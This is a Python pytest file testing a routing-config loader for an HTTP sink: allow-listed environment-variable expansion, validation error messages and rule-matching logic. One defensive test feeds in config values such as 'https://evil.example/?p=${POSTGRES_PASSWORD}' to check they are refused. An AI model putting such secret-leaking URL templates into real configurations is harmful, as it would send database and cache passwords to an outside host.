"""The routing file: checked at start with errors naming rule and field, and what each rule matches."""

from pathlib import Path

import pytest

from infra.settings import REPO_ROOT, HttpSinkSettings
from sinks.http_routes import Match, Route, RoutesError, Threshold, load

from .http_fakes import enriched, row

EXAMPLE = REPO_ROOT / "infra" / "http" / "routes.example.yaml"
# HTTP_SINK_ROUTES_ENV_ALLOW's default: what the example file reads besides HTTP_SINK_ROUTE_*.
ALLOWED = HttpSinkSettings().routes_env_names


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "routes.yaml"
    path.write_text(text)
    return path


def test_the_example_file_loads_with_its_defaults():
    routes = load(EXAMPLE, environ={}, allowed=ALLOWED)
    assert [(r.endpoint, r.url, len(r.rules)) for r in routes] == [
        ("analytics", "http://127.0.0.1:58088/ingest/analytics", 1),
        ("completions", "http://127.0.0.1:58088/ingest/completions", 2),
    ]
    assert routes[1].headers == {"Authorization": "Bearer local-demo-token"}


def test_variables_come_from_the_environment():
    environ = {"HTTP_RECEIVER_URL": "https://hooks.example", "HTTP_SINK_ROUTE_COMPLETIONS_TOKEN": "t0k"}
    routes = load(EXAMPLE, environ=environ, allowed=ALLOWED)
    assert routes[0].url == "https://hooks.example/ingest/analytics"
    assert routes[1].headers["Authorization"] == "Bearer t0k"


def test_the_allow_list_defaults_to_the_local_receivers_url():
    assert HttpSinkSettings().routes_env_names == {"HTTP_RECEIVER_URL"}
    assert HttpSinkSettings(routes_env_allow=" A_URL, B_TOKEN ,").routes_env_names == {"A_URL", "B_TOKEN"}


@pytest.mark.parametrize(
    ("value", "where"),
    [
        ("url: 'https://evil.example/?p=${POSTGRES_PASSWORD}'", "url"),
        ("url: 'https://h/a', headers: {X-Leak: '${REDIS_PASSWORD:-x}'}", "headers.X-Leak"),
        ("url: '${HOME:-https://h}/a'", "url"),
    ],
)
def test_a_variable_outside_the_prefix_and_the_allow_list_is_refused_by_name(tmp_path, value, where):
    path = write(tmp_path, f"endpoints:\n  a: {{{value}}}\nroutes:\n  - {{name: r, endpoint: a}}\n")
    environ = {"POSTGRES_PASSWORD": "pg-secret", "REDIS_PASSWORD": "redis-secret", "HOME": "/root"}
    name = value.split("${")[1].split("}")[0].split(":-")[0]
    with pytest.raises(RoutesError) as raised:
        load(path, environ=environ, allowed=ALLOWED)
    assert str(raised.value) == (
        f"routing file {path}: endpoint 'a': {where}: ${{{name}}} may not be read: "
        "name it HTTP_SINK_ROUTE_... or add it to HTTP_SINK_ROUTES_ENV_ALLOW"
    )


def test_the_prefix_and_the_allow_list_are_read(tmp_path):
    text = (
        "endpoints:\n  a: {url: '${HOOK_BASE}/a', headers: {Authorization: 'Bearer ${HTTP_SINK_ROUTE_A_TOKEN}'}}\n"
        "routes:\n  - {name: r, endpoint: a}\n"
    )
    environ = {"HOOK_BASE": "https://hooks.example", "HTTP_SINK_ROUTE_A_TOKEN": "t"}
    [route] = load(write(tmp_path, text), environ=environ, allowed={"HOOK_BASE"})
    assert (route.url, route.headers) == ("https://hooks.example/a", {"Authorization": "Bearer t"})
    with pytest.raises(RoutesError, match=r"\$\{HOOK_BASE\} may not be read"):
        load(write(tmp_path, text), environ=environ)


BASE = """
endpoints:
  a: {url: "http://h/a"}
routes:
"""


@pytest.mark.parametrize(
    ("rules", "message"),
    [
        (
            "  - {name: deep, endpoint: a, match: {engagement_pct: {gte: lots}}}",
            "rule 'deep' (routes[0]): match.engagement_pct.gte: Input should be a valid number",
        ),
        (
            "  - {name: deep, endpoint: a, match: {engagement_pct: {gte: 80, lt: 50}}}",
            "rule 'deep' (routes[0]): match.engagement_pct: the bounds 80 and 50 admit nothing",
        ),
        (
            "  - {name: all, endpoint: a}\n  - {name: typo, endpoint: a, match: {devices: [ios]}}",
            "rule 'typo' (routes[1]): match.devices: Extra inputs are not permitted",
        ),
        (
            "  - {name: ops, endpoint: a, match: {op: [c, x]}}",
            "rule 'ops' (routes[0]): match.op.1: Input should be 'c', 'r', 'u' or 'd'",
        ),
        (
            "  - {name: none, endpoint: a, match: {device: []}}",
            "rule 'none' (routes[0]): match.device: an empty list matches nothing",
        ),
        ("  - {name: lost, endpoint: b}", "rule 'lost' (routes[0]): endpoint: 'b' is not one of ['a']"),
        (
            "  - {name: x, endpoint: a}\n  - {name: x, endpoint: a}",
            "rule 'x' (routes[1]): name: used by an earlier rule",
        ),
        ("  - {endpoint: a}", "routes[0]: name: Field required"),
    ],
)
def test_errors_name_the_rule_and_the_field(tmp_path, rules, message):
    with pytest.raises(RoutesError) as raised:
        load(write(tmp_path, BASE + rules + "\n"), environ={})
    assert str(raised.value).startswith(f"routing file {tmp_path / 'routes.yaml'}: {message}")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "endpoints:\n  a: {url: ftp://h}\nroutes:\n  - {name: r, endpoint: a}\n",
            "endpoint 'a': url: 'ftp://h' is not an http:// or https:// URL",
        ),
        (
            "endpoints:\n  a: {url: 'http://h/a'}\n  b: {url: 'http://h/b'}\nroutes:\n  - {name: r, endpoint: a}\n",
            "endpoint 'b': no rule sends it anything",
        ),
        (
            "endpoints:\n  a: {url: '${HTTP_SINK_ROUTE_HOOK_URL}/a'}\nroutes:\n  - {name: r, endpoint: a}\n",
            "endpoint 'a': url: ${HTTP_SINK_ROUTE_HOOK_URL} is not set",
        ),
        ("endpoints: [", "not valid YAML"),
    ],
)
def test_endpoint_errors_name_the_endpoint(tmp_path, text, message):
    with pytest.raises(RoutesError) as raised:
        load(write(tmp_path, text), environ={})
    assert message in str(raised.value)


def test_a_missing_file_is_named():
    with pytest.raises(RoutesError, match=r"routing file /nope\.yaml: No such file"):
        load(Path("/nope.yaml"))


def route(**match) -> Route:
    return Route("e", "http://h", {}, (Match(**match),))


def test_every_field_of_a_rule_must_match_and_a_list_is_any_of():
    r = route(event_type=["finish", "pause"], device=["ios"])
    assert r.wants(enriched(1, after=row(1, "finish", "ios")))
    assert r.wants(enriched(2, after=row(2, "pause", "ios")))
    assert not r.wants(enriched(3, after=row(3, "finish", "web")))
    assert not r.wants(enriched(4, after=row(4, "play", "ios")))


def test_op_and_content_type():
    assert route(op=["d"]).wants(enriched(1, "d", before=row(1)))
    assert not route(op=["d"]).wants(enriched(2, "c"))
    assert route(content_type=["video"]).wants(enriched(3))
    assert not route(content_type=["podcast"]).wants(enriched(4))
    assert not route(content_type=["video"]).wants(enriched(5, content=None))


def test_an_update_matches_on_either_image_so_a_row_leaving_the_filter_is_heard_of():
    r = route(event_type=["finish"], engagement_pct=Threshold(gte=50))
    leaving = enriched(1, "u", before=row(1, "finish"), after=row(1, "play"), pct=10.0, before_pct=60.0)
    entering = enriched(2, "u", before=row(2, "play"), after=row(2, "finish"), pct=60.0, before_pct=10.0)
    neither = enriched(3, "u", before=row(3, "finish"), after=row(3, "finish"), pct=10.0, before_pct=20.0)
    assert (r.wants(leaving), r.wants(entering), r.wants(neither)) == (True, True, False)


def test_a_delete_matches_on_its_before_image():
    r = route(event_type=["finish"])
    assert r.wants(enriched(1, "d", before=row(1, "finish")))
    assert not r.wants(enriched(2, "d", before=row(2, "play")))


def test_thresholds_never_match_an_unknown_percentage():
    assert not route(engagement_pct=Threshold(lt=50)).wants(enriched(1, pct=None))
    assert route(engagement_pct=Threshold(gt=10, lte=50)).wants(enriched(2, pct=50.0))
    assert not route(engagement_pct=Threshold(gt=10, lte=50)).wants(enriched(3, pct=10.0))


def test_a_rule_without_match_takes_everything():
    assert route().wants(enriched(1, "d", before=row(1)))


def test_an_update_that_nets_to_zero_is_matched_on_its_before_image_too():
    # Only the device changed: the join gives no contributions, the before-image keeps the pct.
    r = route(device=["ios"], engagement_pct=Threshold(gte=50))
    leaving = enriched(1, "u", before=row(1, device="ios"), after=row(1, device="web"), pct=60.0)
    leaving = leaving.__class__(**{**{f: getattr(leaving, f) for f in leaving.__struct_fields__}, "contributions": ()})
    assert r.wants(leaving)


def test_the_before_image_is_tested_with_its_own_content_type():
    r = route(content_type=["video"])
    moved = enriched(1, "u", before=row(1), after=row(1), before_pct=10.0, content=None)
    assert r.wants(moved)  # the -1 contribution says the before-image's content was a video


def test_equal_inclusive_bounds_are_one_value():
    assert route(engagement_pct=Threshold(gte=50, lte=50)).wants(enriched(1, pct=50.0))


def test_endpoint_names_cannot_make_the_same_label(tmp_path):
    text = "endpoints:\n  a__b: {url: 'http://h/a'}\nroutes:\n  - {name: r, endpoint: a__b}\n"
    with pytest.raises(RoutesError, match="words joined by single _"):
        load(write(tmp_path, text), environ={})
